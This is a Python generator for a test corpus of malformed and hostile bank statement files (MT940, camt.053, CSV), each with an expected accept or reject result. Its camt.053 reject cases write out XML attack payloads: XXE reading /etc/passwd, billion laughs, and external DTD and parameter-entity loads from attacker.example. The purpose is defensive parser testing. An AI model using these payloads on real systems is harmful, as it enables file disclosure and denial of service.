"""Build the hostile and broken statement corpus from the recorded samples.

    .venv/bin/python -m talapker.banking.tests.make_corpus

writes `corpus/` and `corpus/manifest.json`: for each file, its parser, whether it must be
accepted or refused, and a phrase the refusal must contain. Accepted files may also name the
number of lines and some fields of a line that must come out exactly as written. The output
is deterministic; `test_corpus` checks that the committed files are what this script makes.
"""

from __future__ import annotations

import csv as csvlib
import json
import random
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

HERE = Path(__file__).parent
SAMPLES = HERE / "samples"
CORPUS = HERE / "corpus"
MANIFEST = CORPUS / "manifest.json"

RLO, ZWSP, ZWJ = "\u202e", "\u200b", "\u200d"
TRICKY_NAME = f"{RLO}Өмүрбеков{ZWSP} Нурлан{ZWJ} Үсөнович"


@dataclass
class Case:
    file: str
    format: str
    outcome: str  # "accept" | "reject"
    data: bytes
    reason_contains: str = ""
    limits: dict[str, int] = field(default_factory=dict)
    lines: int | None = None
    new_lines: int | None = None  # lines a fund's account gains, where not `lines`
    fields: dict[str, dict[str, str]] = field(default_factory=dict)  # line number -> values

    def entry(self) -> dict[str, Any]:
        entry: dict[str, Any] = {
            "file": self.file,
            "format": self.format,
            "outcome": self.outcome,
            "reason_contains": self.reason_contains,
        }
        if self.limits:
            entry["limits"] = self.limits
        if self.lines is not None:
            entry["lines"] = self.lines
        if self.new_lines is not None:
            entry["new_lines"] = self.new_lines
        if self.fields:
            entry["fields"] = self.fields
        return entry


def sample(name: str) -> bytes:
    return (SAMPLES / name).read_bytes()


def replaced(text: str, old: str, new: str, count: int = 1) -> str:
    """`text` with `old` replaced; a template that no longer contains `old` is a bug here."""
    if old not in text:
        raise ValueError(f"{old!r} is not in the template")
    return text.replace(old, new, count)


def garbage(seed: int, size: int) -> bytes:
    rng = random.Random(seed)
    return bytes(rng.randrange(256) for _ in range(size))


# MT940 --------------------------------------------------------------------------------------

MT940 = sample("mt940_structured_utf8.sta").decode("utf-8")
MT940_CP1251 = sample("mt940_keyword_cp1251.sta")


def _mt940_line(n: int, amount: str = "1,00") -> str:
    return f":61:2510011001C{amount}NTRFNONREF//R{n:07d}\n:86:Взнос {n}\n"


def mt940_cases() -> Iterator[Case]:
    def accept(file: str, text: str, lines: int = 7, **kw: Any) -> Case:
        return Case(f"mt940/{file}", "mt940", "accept", text.encode("utf-8"), lines=lines, **kw)

    def reject(file: str, data: str | bytes, reason: str, **kw: Any) -> Case:
        raw = data.encode("utf-8") if isinstance(data, str) else data
        return Case(f"mt940/{file}", "mt940", "reject", raw, reason, **kw)

    t = MT940
    yield accept("bom_utf8.sta", "\ufeff" + t)
    yield accept("crlf.sta", t.replace("\n", "\r\n"))
    yield accept("cr_only.sta", t.replace("\n", "\r"))
    yield accept("blank_and_dash_lines.sta", t.replace("\n:61:", "\n\n-\n\n:61:"))
    yield accept("100k_blank_lines.sta", replaced(t, ":62F:", "\n" * 100_000 + ":62F:"))
    yield accept(
        "swift_envelope.sta",
        "{1:F01AIYLKG22AXXX0000000000}{2:O9400000251009AIYLKG22AXXX00000000002510090000N}{4:\n"
        + t.removesuffix("-\n")
        + "-}{5:{CHK:123456789ABC}}\n",
    )
    yield accept(
        "rtl_and_zero_width_name.sta",
        replaced(t, "Өмүрбеков Нурлан Үсөнович", TRICKY_NAME),
        fields={"1": {"counterparty_name": TRICKY_NAME}},
    )
    yield accept(
        "reversals_rc_rd.sta",
        replaced(replaced(t, "D250,NCHG", "RC250,NCHG"), "C20000,00NTRF", "RD20000,00NTRF"),
        fields={"6": {"amount": "-250.00"}, "7": {"amount": "20000.00"}},
    )
    yield accept(
        "negative_opening_balance.sta",
        replaced(
            replaced(t, ":60F:C250930", ":60F:D250930"),
            "C251009KGS183250,50",
            "C251009KGS163250,50",
            2,
        ),
    )
    yield accept(
        "intermediate_balances.sta", replaced(replaced(t, ":60F:", ":60M:"), ":62F:", ":62M:")
    )
    yield accept(
        "unknown_subfield_kept.sta",
        replaced(t, "?20Взнос в избирательный фонд", "?20Взнос в избирательный фонд?40N077"),
        fields={"4": {"purpose": "Взнос в избирательный фонд ?40N077"}},
    )
    yield accept(
        "statement_information_after_closing.sta",
        replaced(t, ":64:", ":86:Выписка за период 01.10.2025-09.10.2025\n:64:"),
    )
    yield accept(
        "value_date_only.sta",
        replaced(t, ":61:2510061006C", ":61:251006C"),
        fields={"4": {"booking_date": "2025-10-06"}},
    )
    yield Case(
        "mt940/keyword_cp1251_lf.sta",
        "mt940",
        "accept",
        MT940_CP1251.replace(b"\r\n", b"\n"),
        lines=7,
        fields={"1": {"counterparty_name": "Омурбеков Нурлан Усонович"}},
    )
    cp1251 = MT940_CP1251.decode("cp1251")
    yield Case(
        "mt940/keyword_unknown_keyword_kept.sta",
        "mt940",
        "accept",
        replaced(cp1251, "/ACC/1350100098765432", "/ACC/1350100098765432/BIC/AIYLKG22").encode(
            "cp1251"
        ),
        lines=7,
        fields={"4": {"counterparty_account": "1350100098765432"}},
    )
    many = "".join(_mt940_line(n) for n in range(1, 1002))
    big = ":20:BIG\n:25:1350100012345678\n:60F:C250930KGS0,00\n" + many + ":62F:C251001KGS1001,00\n"
    yield reject("1001_lines_over_limit.sta", big, "at most 1,000", limits={"max_lines": 1000})
    yield reject("over_line_limit.sta", t, "at most 5 are accepted", limits={"max_lines": 5})
    yield reject("empty.sta", b"", "the file is empty")
    yield reject("whitespace_only.sta", b"  \r\n\n\t\n", "the file is empty")
    yield reject("binary_garbage.sta", garbage(1, 4096), "not a bank statement")
    yield reject(
        "garbage_after_tags.sta",
        b":20:X\n:25:Y\n" + garbage(2, 2048),
        "not text in UTF-8, cp1251 or cp866",
    )
    yield reject("missing_20.sta", replaced(t, ":20:ST251009000117\n", ""), ":20:")
    yield reject("missing_25.sta", replaced(t, ":25:1350100012345678\n", ""), ":25:")
    yield reject("missing_60F.sta", replaced(t, ":60F:C250930KGS10000,00\n", ""), ":60F:")
    yield reject("missing_62F.sta", replaced(t, ":62F:C251009KGS183250,50\n", ""), ":62F:")
    yield reject("truncated_before_62F.sta", t[: t.index(":61:2510091009C")], ":62F:")
    yield reject(
        "truncated_inside_character.sta",
        t.encode("utf-8")[: t.encode("utf-8").index("Жеңишбек".encode()) + 3],
        "cut short",
    )
    yield reject(
        "balances_do_not_add_up.sta",
        replaced(t, ":62F:C251009KGS183250,50", ":62F:C251009KGS183250,05"),
        "opening balance 10000.00 + lines 173250.50 = 183250.50, but the closing balance is "
        "183250.05 (difference -0.45)",
    )
    yield reject(
        "date_30_february.sta", replaced(t, ":61:2510011001C", ":61:2502301001C"), "250230"
    )
    yield reject(
        "entry_date_13th_month.sta", replaced(t, ":61:2510011001C", ":61:2510011301C"), "entry date"
    )
    yield reject(
        "amount_with_dot.sta",
        replaced(t, "C50000,00NTRF", "C50000.00NTRF"),
        "',' as the decimal mark",
    )
    yield reject(
        "amount_three_decimals.sta",
        replaced(t, "C50000,00NTRF", "C50000,001NTRF"),
        "at most two decimals",
    )
    yield accept(  # a bank's account check books zero (issue 13)
        "amount_zero.sta",
        replaced(replaced(t, "D250,NCHG", "D0,NCHG"), "KGS183250,50", "KGS183500,50", 2),
        fields={"6": {"amount": "0.00"}},
    )
    yield reject(
        "mixed_currencies.sta",
        replaced(t, ":62F:C251009KGS", ":62F:C251009USD"),
        "mixed currencies",
    )
    yield accept(  # a line's identity is the whole booking, not its reference (decision 0012)
        "duplicate_reference.sta",
        replaced(t, "//KG25100200002", "//KG25100100001"),
        fields={"2": {"reference": "KG25100100001"}},
    )
    yield reject(
        "future_booking.sta",
        replaced(replaced(t, ":61:2510091009C", ":61:9910091009C"), ":62F:C251009", ":62F:C991009"),
        "in the future",
    )
    yield accept(  # balances dated at the end of the period: only their identity counts
        "opening_balance_dated_after_bookings.sta",
        replaced(t, ":60F:C250930", ":60F:C251002"),
    )
    yield accept(
        "two_accounts.sta",
        t + replaced(t, ":25:1350100012345678", ":25:1350100099999999"),
        lines=14,
    )
    yield accept(  # the same day twice: read twice, its lines kept once
        "two_statements_same_account.sta", t + t, lines=14, new_lines=7
    )
    yield reject("utf16.sta", t.encode("utf-16"), "UTF-16")
    koi8 = cp1251.translate(str.maketrans({"«": '"', "»": '"', "№": "N"})).encode("koi8_r")
    yield reject("koi8r_encoding.sta", koi8, "not text in UTF-8, cp1251 or cp866")
    yield reject("nul_byte.sta", replaced(t, "ЗАЧИСЛЕНИЕ", "ЗАЧИС\x00ЛЕНИЕ"), "U+0000")
    no_lines = re.sub(r":61:.*?(?=:62F:)", "", t, flags=re.S)
    yield accept(  # a balance report: the account did not move
        "no_statement_lines.sta",
        replaced(no_lines, ":62F:C251009KGS183250,50", ":62F:C251009KGS10000,00"),
        lines=0,
    )
    yield reject(
        "text_before_first_tag.sta",
        "{1:F01AIYLKG22AXXX0000000000}{4:\nВыписка по счёту\n" + t,
        "text before the first MT940 tag",
    )
    yield reject("preamble_line.sta", "{1:F01AIYLKG22AXXX0000000000}{2:O940}\n" + t, "{4:")
    yield reject(
        "lowercase_credit_mark.sta",
        replaced(t, ":61:2510011001C", ":61:2510011001c"),
        "not written as",
    )
    yield reject(
        "malformed_balance.sta", replaced(t, ":60F:C250930KGS", ":60F:C25093KGS"), "balance"
    )
    yield reject(
        "line_before_opening_balance.sta",
        replaced(t, ":60F:C250930KGS10000,00\n", "").replace(
            ":28C:117/1\n", ":28C:117/1\n" + _mt940_line(9) + ":60F:C250930KGS10000,00\n"
        ),
        "between the opening and closing",
    )
    yield accept(
        "no_reference.sta",
        replaced(t, "NCHGNONREF//KG25100800006", "NCHGNONREF"),
        fields={"6": {"reference": ""}},
    )
    yield reject(
        "name_too_long.sta",
        replaced(t, "?32Өмүрбеков Нурлан Үсөнович", "?32" + "Ө" * 600),
        "at most 500",
    )


# camt.053 -----------------------------------------------------------------------------------

CAMT = sample("camt053_v02.xml").decode("utf-8")
CAMT_NS = "urn:iso:std:iso:20022:tech:xsd:camt.053.001.{:02d}"


def camt_version(version: int, text: str = CAMT) -> str:
    """The .02 sample rewritten for another version (the elements that changed shape)."""
    text = re.sub(r"\s*<Svcr>.*?</Svcr>", "", text, flags=re.S)
    text = text.replace(CAMT_NS.format(2), CAMT_NS.format(version))
    if version >= 3:
        text = re.sub(r"<Ntry>.*?</Ntry>", _amount_in_details, text, flags=re.S)
    if version >= 7:
        text = text.replace("<Sts>BOOK</Sts>", "<Sts><Cd>BOOK</Cd></Sts>")
        text = re.sub(
            r"<(Dbtr|Cdtr)>(.*?)</\1>",
            lambda m: f"<{m[1]}><Pty>{m[2]}</Pty></{m[1]}>",
            text,
            flags=re.S,
        )
    return text


def _amount_in_details(entry: re.Match[str]) -> str:
    """From .03 on, transaction details repeat their entry's amount and direction."""
    block = entry.group()
    amount = re.search(r"<Amt Ccy=\"\w+\">[^<]*</Amt>\s*<CdtDbtInd>\w+</CdtDbtInd>", block)
    assert amount is not None
    repeated = re.sub(r">\s+<", "><", amount.group())
    return block.replace("<TxDtls>", "<TxDtls>\n            " + repeated)


def _entry(text: str, n: int) -> tuple[int, int]:
    """Start and end offsets of the n-th <Ntry> (1-based)."""
    start = -1
    for _ in range(n):
        start = text.index("<Ntry>", start + 1)
    return start, text.index("</Ntry>", start) + len("</Ntry>")


def camt_cases() -> Iterator[Case]:
    def accept(file: str, text: str | bytes, lines: int = 7, **kw: Any) -> Case:
        raw = text.encode("utf-8") if isinstance(text, str) else text
        return Case(f"camt053/{file}", "camt.053", "accept", raw, lines=lines, **kw)

    def reject(file: str, data: str | bytes, reason: str, **kw: Any) -> Case:
        raw = data.encode("utf-8") if isinstance(data, str) else data
        return Case(f"camt053/{file}", "camt.053", "reject", raw, reason, **kw)

    t = CAMT
    for version in range(2, 13):
        yield accept(f"version_{version:02d}.xml", camt_version(version))
    yield accept("bom_utf8.xml", b"\xef\xbb\xbf" + t.encode("utf-8"))
    yield accept("crlf.xml", t.replace("\n", "\r\n"))
    yield accept("utf16.xml", replaced(t, 'encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))
    yield accept(
        "windows1251_declared.xml",
        replaced(t, 'encoding="UTF-8"', 'encoding="windows-1251"')
        .translate(str.maketrans("ӨөҮүҢң", "ОоУуНн"))
        .encode("cp1251"),
        fields={"1": {"counterparty_name": "Омурбеков Нурлан Усонович"}},
    )
    prefixed = re.sub(r"<(/?)(?=[A-Z])", r"<\1camt:", t)
    prefixed = replaced(prefixed, 'xmlns="urn', 'xmlns:camt="urn')
    yield accept("namespace_prefix.xml", prefixed)
    yield accept(
        "rtl_and_zero_width_name.xml",
        replaced(t, "Өмүрбеков Нурлан Үсөнович", TRICKY_NAME),
        fields={"1": {"counterparty_name": TRICKY_NAME}},
    )
    yield accept(
        "iban_account.xml",
        replaced(
            t,
            "<Othr>\n            <Id>1350100012345678</Id>\n          </Othr>",
            "<IBAN>KG12AIYL1350100012345678</IBAN>",
        ),
    )
    yield accept("previously_closed_balance.xml", replaced(t, "<Cd>OPBD</Cd>", "<Cd>PRCD</Cd>"))
    yield accept(
        "debit_opening_balance.xml",
        replaced(
            replaced(
                t,
                "<CdtDbtInd>CRDT</CdtDbtInd>\n        <Dt><Dt>2025-09-30",
                "<CdtDbtInd>DBIT</CdtDbtInd>\n        <Dt><Dt>2025-09-30",
            ),
            ">183250.50<",
            ">163250.50<",
        ),
    )
    start, end = _entry(t, 4)
    batch = replaced(
        t[start:end],
        "<TxDtls>",
        "<TxDtls>\n            <Refs><AcctSvcrRef>KG25100600004-1</AcctSvcrRef></Refs>\n"
        '            <AmtDtls><TxAmt><Amt Ccy="KGS">600.50</Amt></TxAmt></AmtDtls>',
    )
    batch = replaced(
        batch,
        "</TxDtls>",
        "</TxDtls>\n          <TxDtls>\n"
        "            <Refs><AcctSvcrRef>KG25100600004-2</AcctSvcrRef></Refs>\n"
        '            <AmtDtls><TxAmt><Amt Ccy="KGS">400.00</Amt></TxAmt></AmtDtls>\n'
        "            <RltdPties><Dbtr><Nm>Токтогулова Бүбүсара</Nm>"
        "<Id><PrvtId><Othr><Id>10304199200321</Id></Othr></PrvtId></Id></Dbtr></RltdPties>\n"
        "            <RmtInf><Ustrd>Взнос</Ustrd></RmtInf>\n"
        "          </TxDtls>",
    )
    yield accept(
        "batch_entry_two_transactions.xml",
        t[:start] + batch + t[end:],
        lines=8,
        fields={"5": {"counterparty_name": "Токтогулова Бүбүсара", "amount": "400.00"}},
    )
    v08 = camt_version(8)
    start8, end8 = _entry(v08, 4)
    batch8 = replaced(
        v08[start8:end8],
        '<TxDtls>\n            <Amt Ccy="KGS">1000.50<',
        '<TxDtls>\n            <Amt Ccy="KGS">600.50<',
    )
    batch8 = replaced(
        batch8,
        "</TxDtls>",
        "</TxDtls>\n          <TxDtls>\n"
        '            <Amt Ccy="KGS">400.00</Amt><CdtDbtInd>CRDT</CdtDbtInd>\n'
        "            <Refs><EndToEndId>E2E-400</EndToEndId></Refs>\n"
        "            <RltdPties><Dbtr><Pty><Nm>Токтогулова Бүбүсара</Nm></Pty></Dbtr></RltdPties>\n"
        "          </TxDtls>",
    )
    yield accept(
        "batch_entry_version_08.xml",
        v08[:start8] + batch8 + v08[end8:],
        lines=8,
        fields={"5": {"reference": "E2E-400", "amount": "400.00", "purpose": ""}},
    )
    yield reject("over_entry_limit.xml", t, "at most 5 are accepted", limits={"max_lines": 5})
    yield reject(
        "xxe_file.xml",
        '<?xml version="1.0"?>\n<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        f'<Document xmlns="{CAMT_NS.format(2)}"><BkToCstmrStmt>&xxe;</BkToCstmrStmt></Document>',
        "DTD",
    )
    lol = "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' if i else '<!ENTITY lol0 "lol">'
        for i in range(10)
    )
    yield reject(
        "billion_laughs.xml",
        f'<?xml version="1.0"?>\n<!DOCTYPE lolz [{lol}]>\n<lolz>&lol9;</lolz>',
        "DTD",
    )
    yield reject(
        "external_dtd.xml",
        replaced(
            t,
            "<Document",
            '<!DOCTYPE Document SYSTEM "http://attacker.example/camt.dtd">\n<Document',
        ),
        "DTD",
    )
    yield reject(
        "parameter_entity.xml",
        '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>\n'
        f'<Document xmlns="{CAMT_NS.format(2)}"/>',
        "DTD",
    )
    yield reject(
        "xinclude.xml",
        replaced(
            t,
            "<GrpHdr>",
            '<GrpHdr><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
        ),
        "the element <include> is not part of <GrpHdr>",
    )
    yield reject(
        "pain001.xml",
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.03">'
        "<CstmrCdtTrfInitn><GrpHdr><MsgId>1</MsgId></GrpHdr></CstmrCdtTrfInitn></Document>",
        "pain.001",
    )
    yield reject("camt052.xml", t.replace("camt.053.001.02", "camt.052.001.02"), "camt.052")
    yield reject(
        "no_namespace.xml", replaced(t, f' xmlns="{CAMT_NS.format(2)}"', ""), "no namespace"
    )
    yield reject(
        "version_01.xml", t.replace("camt.053.001.02", "camt.053.001.01"), ".001.01 is not accepted"
    )
    yield reject(
        "version_13.xml", t.replace("camt.053.001.02", "camt.053.001.13"), ".001.13 is not accepted"
    )
    yield reject("truncated.xml", t[: len(t) // 2], "not well-formed")
    yield reject("garbage_after_angle.xml", b"<" + garbage(3, 4096), "not well-formed")
    yield reject("binary_garbage.xml", garbage(4, 4096), "not a bank statement")
    yield reject("empty.xml", b"", "the file is empty")
    yield reject(
        "deep_nesting.xml",
        f'<Document xmlns="{CAMT_NS.format(2)}">' + "<a>" * 5000 + "</a>" * 5000 + "</Document>",
        "nested deeper",
    )
    yield reject(
        "balances_do_not_add_up.xml",
        replaced(t, ">183250.50<", ">183205.50<"),
        "opening balance 10000.00 + lines 173250.50 = 183250.50, but the closing balance is "
        "183205.50 (difference -45.00)",
    )
    yield reject(
        "date_30_february.xml",
        replaced(t, "<BookgDt><Dt>2025-10-01</Dt>", "<BookgDt><Dt>2025-02-30</Dt>"),
        "2025-02-30",
    )
    yield reject(
        "amount_three_decimals.xml",
        replaced(t, ">50000.00<", ">50000.001<"),
        "at most two decimals",
    )
    yield reject(
        "amount_too_large.xml",
        replaced(t, ">50000.00<", ">123456789012345678<"),
        "larger than the largest amount accepted",
    )
    yield reject("amount_negative.xml", replaced(t, ">50000.00<", ">-50000.00<"), "negative")
    yield reject("amount_exponent.xml", replaced(t, ">50000.00<", ">5E4<"), "exponent")
    yield reject("amount_not_a_number.xml", replaced(t, ">50000.00<", ">fifty<"), "fifty")
    yield accept(  # a bank's zero-amount account check is a booking it sends (issue 13)
        "amount_zero.xml",
        replaced(replaced(t, ">250.00<", ">0.00<"), ">183250.50<", ">183500.50<"),
        fields={"6": {"amount": "0.00"}},
    )
    yield reject(
        "mixed_currencies.xml",
        replaced(t, '<Amt Ccy="KGS">250.00</Amt>', '<Amt Ccy="USD">250.00</Amt>'),
        "mixed currencies",
    )
    yield reject(
        "currency_two_letters.xml",
        t.replace('Ccy="KGS"', 'Ccy="KG"').replace("<Ccy>KGS</Ccy>", "<Ccy>KG</Ccy>"),
        "three-letter",
    )
    yield accept(  # a reference is not an identity: banks repeat them (issue 13)
        "duplicate_reference.xml",
        replaced(t, "<AcctSvcrRef>KG25100200002<", "<AcctSvcrRef>KG25100100001<"),
        fields={"2": {"reference": "KG25100100001"}},
    )
    yield reject("pending_entry.xml", replaced(t, "<Sts>BOOK</Sts>", "<Sts>PDNG</Sts>"), "BOOK")
    yield reject(
        "unknown_element.xml",
        replaced(t, "<Sts>BOOK</Sts>", "<Sts>BOOK</Sts><Bonus/>"),
        "the element <Bonus> is not part of",
    )
    yield accept(  # BookgDt is optional: the value date stands in, as in MT940
        "no_booking_date.xml",
        replaced(t, "<BookgDt><Dt>2025-10-01</Dt></BookgDt>", ""),
        fields={"1": {"booking_date": "2025-10-01"}},
    )
    yield reject(
        "no_booking_or_value_date.xml",
        replaced(
            replaced(t, "<BookgDt><Dt>2025-10-01</Dt></BookgDt>", ""),
            "<ValDt><Dt>2025-10-01</Dt></ValDt>",
            "",
        ),
        "entry 1: neither the booking date (BookgDt) nor the value date (ValDt) is given",
    )
    yield reject(
        "balance_without_direction.xml",
        replaced(
            t, "<CdtDbtInd>CRDT</CdtDbtInd>\n        <Dt><Dt>2025-09-30", "<Dt><Dt>2025-09-30"
        ),
        "the element <Bal> lacks the required <CdtDbtInd>",
    )
    yield reject(
        "future_booking.xml",
        replaced(
            replaced(t, "<BookgDt><Dt>2025-10-09</Dt>", "<BookgDt><Dt>2099-10-09</Dt>"),
            "<Dt><Dt>2025-10-09</Dt></Dt>",
            "<Dt><Dt>2099-10-09</Dt></Dt>",
        ),
        "in the future",
    )
    stmt_start, stmt_end = t.index("<Stmt>"), t.index("</Stmt>") + len("</Stmt>")
    stmt = t[stmt_start:stmt_end]
    yield accept(  # every Stmt of the document is a statement (issue 13)
        "two_accounts.xml",
        t[:stmt_end] + "\n" + stmt.replace("1350100012345678", "1350100099999999") + t[stmt_end:],
        lines=14,
    )
    yield accept(  # the same Stmt twice: read twice, its lines kept once
        "two_statements_same_account.xml",
        t[:stmt_end] + "\n" + stmt + t[stmt_end:],
        lines=14,
        new_lines=7,
    )
    yield accept(
        "swift_envelope.xml",
        replaced(
            replaced(
                t,
                "<Document",
                '<Envelope xmlns="urn:swift:xsd:envelope">\n<AppHdr xmlns="urn:iso:std:iso:'
                '20022:tech:xsd:head.001.001.02"><MsgDefIdr>camt.053.001.02</MsgDefIdr></AppHdr>'
                "\n<Document",
            ),
            "</Document>",
            "</Document>\n</Envelope>",
        ),
    )
    yield reject(
        "swift_envelope_pain001.xml",
        '<?xml version="1.0" encoding="UTF-8"?>\n<Envelope xmlns="urn:swift:xsd:envelope">'
        '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.03">'
        "<CstmrCdtTrfInitn/></Document></Envelope>",
        "pain.001",
    )
    yield reject(
        "swift_envelope_no_document.xml",
        '<?xml version="1.0" encoding="UTF-8"?>\n<Envelope xmlns="urn:swift:xsd:envelope">'
        "<Payload/></Envelope>",
        "the root element <Envelope> has namespace 'urn:swift:xsd:envelope'",
    )
    yield reject(
        "no_account_id.xml",
        replaced(
            t,
            "<Othr>\n            <Id>1350100012345678</Id>\n          </Othr>",
            "<Othr><Id></Id></Othr>",
        ),
        "account has no",
    )
    entries = re.sub(r"\s*<Ntry>.*</Ntry>", "", t, flags=re.S)
    yield accept(  # a balance report: the account did not move
        "no_entries.xml", replaced(entries, ">183250.50<", ">10000.00<"), lines=0
    )
    yield reject(
        "declared_utf8_written_cp1251.xml",
        t.translate(str.maketrans("ӨөҮүҢң", "ОоУуНн")).encode("cp1251"),
        "not well-formed",
    )
    yield reject(
        "batch_does_not_add_up.xml",
        t[:start] + batch.replace(">400.00<", ">399.00<") + t[end:],
        "do not add up to the entry",
    )
    yield reject(
        "batch_transaction_negative.xml",
        t[:start] + batch.replace(">400.00<", ">-400.00<") + t[end:],
        "a transaction of the batch: the amount -400.00 is negative",
    )


# CSV ----------------------------------------------------------------------------------------

CSV = sample("statement.csv").decode("utf-8")
CSV_HEADER = CSV.split("\n", 1)[0]


def csv_cases() -> Iterator[Case]:
    def accept(file: str, text: str | bytes, lines: int = 7, **kw: Any) -> Case:
        raw = text.encode("utf-8") if isinstance(text, str) else text
        return Case(f"csv/{file}", "csv", "accept", raw, lines=lines, **kw)

    def reject(file: str, data: str | bytes, reason: str, **kw: Any) -> Case:
        raw = data.encode("utf-8") if isinstance(data, str) else data
        return Case(f"csv/{file}", "csv", "reject", raw, reason, **kw)

    t = CSV
    yield accept("bom_utf8.csv", "\ufeff" + t)
    yield accept("crlf.csv", t.replace("\n", "\r\n"))
    yield accept(
        "rtl_and_zero_width_name.csv",
        replaced(t, "Өмүрбеков Нурлан Үсөнович", TRICKY_NAME),
        fields={"1": {"counterparty_name": TRICKY_NAME}},
    )
    yield accept(
        "multiline_quoted_purpose.csv",
        replaced(t, ",Взнос в избирательный фонд\n", ',"Взнос\nв избирательный фонд"\n'),
        fields={"4": {"purpose": "Взнос\nв избирательный фонд"}},
    )
    yield accept(
        "extra_unknown_column.csv",
        "\n".join(line + (",note" if i == 0 else ",x") for i, line in enumerate(t.splitlines()))
        + "\n",
    )
    rows = list(csvlib.reader(t.splitlines()))
    order = [9, 8, 7, 6, 5, 4, 3, 2, 1, 0]
    reordered = "\n".join(",".join(_quote(row[i]) for i in order) for row in rows) + "\n"
    yield accept("columns_reordered.csv", reordered, fields={"3": {"amount": "-35000.00"}})
    yield accept("blank_lines_between_rows.csv", t.replace("\n1350", "\n\n1350"))
    yield accept("plus_sign_amount.csv", replaced(t, ",50000.00,", ",+50000.00,"))
    yield accept(
        "empty_optional_fields.csv",
        replaced(
            t,
            "2025-10-09,2025-10-09,20000.00,KGS,Жеңишбек уулу Таалайбек,"
            "20305198800789,1350100055554444",
            "2025-10-09,,20000.00,KGS,,,",
        ),
        fields={"7": {"counterparty_name": "", "value_date": ""}},
    )
    many = "".join(f"1350100012345678,2025-10-01,,1.00,KGS,,,,R{n:07d},\n" for n in range(1, 2002))
    yield reject(
        "2001_rows_over_limit.csv",
        CSV_HEADER + "\n" + many,
        "at most 2,000",
        limits={"max_lines": 2000},
    )
    yield reject("over_line_limit.csv", t, "at most 5 are accepted", limits={"max_lines": 5})
    yield reject("empty.csv", b"", "the file is empty")
    yield reject("whitespace_only.csv", b"\n\n  \n", "the file is empty")
    yield reject("header_only.csv", CSV_HEADER + "\n", "no statement lines")
    without_purpose = "\n".join(line.rsplit(",", 1)[0] for line in t.splitlines()[:1]) + "\n"
    yield reject(
        "missing_column.csv",
        without_purpose + "1350100012345678,2025-10-01,2025-10-01,1.00,KGS,,,,R1\n",
        "column purpose: required column is missing",
    )
    yield reject(
        "duplicated_column.csv",
        "\n".join(line + (",amount" if i == 0 else ",1") for i, line in enumerate(t.splitlines())),
        "more than once",
    )
    yield reject(
        "cp1251_encoding.csv",
        t.translate(str.maketrans("ӨөҮүҢң", "ОоУуНн")).encode("cp1251"),
        "not UTF-8",
    )
    yield reject("utf16_encoding.csv", t.encode("utf-16"), "not a bank statement")
    yield reject("truncated_inside_character.csv", t.encode("utf-8")[:-4], "not UTF-8")
    yield reject("semicolon_separator.csv", t.replace(",", ";"), "separated by ';'")
    yield reject(
        "comma_decimal_quoted.csv",
        replaced(t, ",1000.50,", ',"1000,50",'),
        "'.' as the decimal mark",
    )
    yield reject(
        "comma_decimal_unquoted.csv",
        replaced(t, ",1000.50,", ",1000,50,"),
        "',' as the decimal mark splits",
    )
    yield reject(
        "date_day_month_year.csv",
        replaced(t, "2025-10-06,2025-10-06", "06.10.2025,2025-10-06"),
        "YYYY-MM-DD",
    )
    yield reject(
        "date_30_february.csv",
        replaced(t, "2025-10-06,2025-10-06", "2025-02-30,2025-10-06"),
        "not a date that exists",
    )
    yield reject(
        "future_booking.csv",
        replaced(t, "2025-10-09,2025-10-09", "2099-10-09,2099-10-09"),
        "in the future",
    )
    yield accept(  # a bank's account check books zero (issue 13)
        "amount_zero.csv", replaced(t, ",-250.00,", ",0.00,"), fields={"6": {"amount": "0.00"}}
    )
    yield accept(
        "amount_negative_zero.csv",
        replaced(t, ",-250.00,", ",-0.00,"),
        fields={"6": {"amount": "0.00"}},
    )
    yield reject(
        "amount_three_decimals.csv", replaced(t, ",-250.00,", ",-250.001,"), "at most two decimals"
    )
    yield reject("amount_exponent.csv", replaced(t, ",-250.00,", ",-2.5e2,"), "not an amount")
    yield reject(
        "amount_too_large.csv",
        replaced(t, ",150000.00,", ",15000000000000.00,"),
        "larger than the largest amount accepted",
    )
    yield reject("amount_nan.csv", replaced(t, ",-250.00,", ",NaN,"), "not an amount")
    yield reject(
        "amount_thousands_space.csv", replaced(t, ",150000.00,", ",150 000.00,"), "not an amount"
    )
    yield reject(
        "currency_four_letters.csv", replaced(t, ",-250.00,KGS,", ",-250.00,KGSS,"), "three-letter"
    )
    yield reject(
        "currency_lowercase.csv", replaced(t, ",-250.00,KGS,", ",-250.00,kgs,"), "three-letter"
    )
    yield reject(
        "mixed_currencies.csv", replaced(t, ",-250.00,KGS,", ",-250.00,USD,"), "mixed currencies"
    )
    yield reject(
        "two_accounts.csv",
        replaced(t, "1350100012345678,2025-10-09", "1350100099999999,2025-10-09"),
        "several accounts",
    )
    yield reject(
        "empty_account.csv",
        replaced(t, "1350100012345678,2025-10-09", ",2025-10-09"),
        "the account is empty",
    )
    yield accept(  # a line's identity is the whole booking, not its reference (decision 0012)
        "duplicate_reference.csv",
        replaced(t, ",KG25100800006,", ",KG25100100001,"),
        fields={"6": {"reference": "KG25100100001"}},
    )
    yield accept(
        "missing_reference.csv",
        replaced(t, ",KG25100800006,", ",,"),
        fields={"6": {"reference": ""}},
    )
    yield reject(
        "control_character.csv", replaced(t, "Пожертвование\n", "Пожерт\x07вование\n"), "U+0007"
    )
    yield reject(
        "unclosed_quote.csv", replaced(t, '"Оплата рекламы', '"Оплата рекламы"x'), "not valid CSV"
    )
    yield reject("short_row.csv", replaced(t, ",Пожертвование\n", "\n"), "the row has 9 fields")
    yield reject(
        "name_too_long.csv", replaced(t, "Жеңишбек уулу Таалайбек", "Ң" * 501), "at most 500"
    )
    yield reject("binary_garbage.csv", garbage(5, 4096), "not a bank statement")


def _quote(value: str) -> str:
    return f'"{value}"' if any(c in value for c in ',"\n') else value


# Writing ------------------------------------------------------------------------------------

BUILDERS: tuple[Callable[[], Iterator[Case]], ...] = (mt940_cases, camt_cases, csv_cases)


def build() -> list[Case]:
